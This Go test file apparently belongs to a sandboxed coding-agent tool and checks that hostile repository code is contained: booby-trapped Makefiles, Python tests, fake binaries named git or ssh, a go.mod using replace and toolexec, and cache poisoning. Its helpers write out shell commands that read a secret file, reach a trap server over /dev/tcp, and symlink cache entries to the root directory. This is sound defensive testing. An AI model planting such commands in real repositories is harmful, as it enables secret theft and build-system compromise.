package tool

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/bobbinhq/bobbin/repo/build"
	"github.com/bobbinhq/bobbin/repo/build/project"
	"github.com/bobbinhq/bobbin/repo/proof"
	"github.com/bobbinhq/bobbin/repo/sandbox"
)

// hostileCode is code that runs when the repository is built or tested.
func hostileCode() []hostile {
	return []hostile{
		{
			line: "R19", name: "a Makefile", tree: func(l *lab) files {
				return files{"Makefile": "build:\n\t" + l.attack("build") +
					"\ntest: build\n\t" + l.attack("test") + "\n"}
			},
			caches: true, play: playCode,
			naive: naiveCheck, finds: executed,
		},
		{
			line: "R19", name: "tests and what they load", tree: func(l *lab) files {
				return files{"test_shop.py": "import os, unittest\nos.system('''" + l.attack("module") +
					"''')\nclass T(unittest.TestCase):\n\tdef test_all(self):\n\t\tself.assertTrue(True)\n"}
			},
			play:  playCode,
			naive: naiveCheck, finds: executed,
		},
		{
			line: "R19", name: "programs named like those of the machine", tree: func(l *lab) files {
				tree := files{}
				for _, name := range []string{
					"git", "ssh", "sh", "bash", "go", "make", "bwrap", "python3", "git-remote-http",
					"git-http-backend", "node_modules/.bin/git",
				} {
					tree[name+"*"] = "#!/bin/sh\n" + l.touch("planted") + "\n"
				}
				return tree
			},
			naive: func(l *lab, dir string) { l.sh(dir, "PATH=.:$PATH; git status") }, finds: executed,
		},
		{
			line: "R20",
			name: "a go.mod that wants another go, and files from above",
			tree: func(l *lab) files {
				return files{
					"go.mod": "module shop\n\ngo 1.99.0\n\ntoolchain go1.99.0\n\nrequire evil v0.0.0\n\n" +
						"replace evil => ../../outside\n",
					"main.go": "package main\n\nimport _ \"evil\"\n\n//go:generate sh -c \"" +
						l.touch("generate") + "\"\nfunc main() {}\n",
					"go.env":   "GOFLAGS=-toolexec=./evil.sh\nGOPROXY=" + l.trap.url + "\n",
					"evil.sh*": "#!/bin/sh\n" + l.touch("toolexec") + "\n",
				}
			},
			play: func(t testing.TB, l *lab) {
				require.Contains(t, l.ask("run", args{"command": "go list ./..."}), "GOTOOLCHAIN=local")
				l.ask("run", args{
					"command": "sed -i '/1.99/d' go.mod; go list -m evil; ls ../../outside " + l.outside,
				})
			},
			naive: func(l *lab, dir string) {
				l.sh(dir, "go list ./...", "GOTOOLCHAIN=auto", "GOPROXY="+l.trap.url, "GOFLAGS=",
					"GOMODCACHE="+filepath.Join(l.dir, "mod"), "GONOSUMDB=*",
					"GOCACHE="+filepath.Join(l.dir, "gocache"))
			},
			finds: asked,
		},
		{
			line: "R24", name: "a poisoned cache",
			caches: true, play: playPoison,
		},
		{
			line: "T16",
			name: "two sessions at once",
			tree: func(*lab) files { return files{"shared.txt": "theirs\n"} },
			play: func(t testing.TB, l *lab) {
				other, err := l.session(l.env.Mirror, "other", "main")
				require.NoError(t, err)
				other.ok(t, "read_file", args{"path": "shared.txt"})
				other.ok(t, "edit_file", args{"path": "shared.txt", "old": "theirs", "new": "mine"})
				other.ok(t, "run", args{
					"command": "echo " + secret + " > left.txt; ls /src/.. /tmp > seen.txt",
				})
				require.Contains(t, l.ask("read_file", args{"path": "shared.txt"}), "1\ttheirs")
				require.Contains(t, l.env.refused(t, "read_file", args{"path": "left.txt"}),
					"There is no left.txt")
				require.NotContains(t,
					l.ask("run", args{"command": "find / -name left.txt 2>/dev/null; cat left.txt"}), secret)
				require.NotEqual(t, l.env.Workspace.Files(), other.Workspace.Files())
			},
		},
	}
}

// attack returns a shell command that tries what hostile code may try: to leave a file outside, to read one,
// and to contact a server.
func (l *lab) attack(name string) string {
	host := strings.TrimPrefix(l.trap.url, "http://")
	return fmt.Sprintf(`%s; cat %s/secret.txt; bash -c "exec 3<>/dev/tcp/%s && echo GET / HTTP/1.0 >&3 && `+
		`echo >&3 && cat <&3"; true`,
		l.touch(name), l.outside, strings.Replace(host, ":", "/", 1))
}

func playCode(t testing.TB, l *lab) {
	require.NotEmpty(t, l.env.Project.Test, "what is to be run is found")
	l.ask("check", nil)
	l.ask("run", args{"command": l.env.Project.Test})
	if !l.caches {
		return
	}
	require.Contains(t, l.ask("write_file", args{"path": "added.txt", "content": "x\n"}), "new")
	proof, err := proof.Prove(t.Context(), l.env.Checker, l.env.Workspace, l.env.Project, "")
	require.NoError(t, err)
	require.True(t, proof.Branch.TestsRan)
	require.True(t, proof.Branch.TestsOK, proof.Branch.Output)
	require.NoError(t, l.env.Workspace.Restore(t.Context(), ""))
}

// naiveCheck runs the same tests with the same code, but without a sandbox.
func naiveCheck(l *lab, dir string) {
	none, err := sandbox.Open(l.t.Context(), sandbox.Config{Kind: sandbox.KindNone})
	require.NoError(l.t, err)
	root, err := os.OpenRoot(dir)
	require.NoError(l.t, err)
	defer func() { _ = root.Close() }()
	_, err = (&build.Checker{
		Caches: build.Caches{Sandbox: none, Dir: filepath.Join(l.dir, "caches")},
	}).Run(l.t.Context(), dir, project.Find(root.FS()))
	require.NoError(l.t, err)
	require.Subset(l.t, l.found(), []string{executed, touched, asked})
}

// playPoison lets a command write into every cache that it can see. The command has its own cache, which no
// other command sees.
func playPoison(t testing.TB, l *lab) {
	const poison = `for d in $(env | grep '^[A-Z]*CACHE=' | cut -d= -f2) /cache/*; ` +
		`do mkdir -p "$d/00" "$d/ff"; echo poison > "$d/00/poison" || echo poison > "$d/poison"; ` +
		`ln -s / "$d/ff/poison"; done; echo tried`
	require.Contains(t, l.ask("run", args{"command": poison}), "tried")
	poisoned := func() (found []string) {
		require.NoError(t,
			filepath.WalkDir(filepath.Join(l.dir, "caches"), func(p string, d os.DirEntry, err error) error {
				if err == nil && d.Name() == "poison" {
					found = append(found, p)
				}
				return err
			}))
		return found
	}
	require.Empty(t, poisoned(), "the repository's cache")
	own, err := filepath.Glob(filepath.Join(l.env.BuildCacheDir, "*", "poison"))
	require.NoError(t, err)
	require.NotEmpty(t, own, "a cache of its own it may spoil")
	for _, line := range []string{"ls /cache/*/00 /cache/*/ff", "ls -R /cache | grep -c poison; true"} {
		cmd := l.env.Sandbox.Command(l.env.Workspace.Files(), "sh", "-c", line)
		var out strings.Builder
		// as checks and proofs have it
		cmd.Mounts, cmd.Env = l.env.Checker.Cache.Mounts(l.env.Workspace.Files())
		cmd.Stdout = &out
		require.NoError(t, cmd.Run(t.Context()))
		require.NotContains(t, out.String(), "poison\n", line)
	}
	cmd := l.env.Sandbox.Command(l.env.Workspace.Files(), "sh", "-c", poison)
	cmd.Mounts, cmd.Env = l.env.Checker.Cache.Mounts(l.env.Workspace.Files())
	for i := range cmd.Mounts {
		cmd.Mounts[i].Writable = strings.HasPrefix(cmd.Mounts[i].Host, l.dir)
	}
	require.NoError(t, cmd.Run(t.Context()))
	require.NotEmpty(t, poisoned(), "the control: a cache that is shared to be written")
}
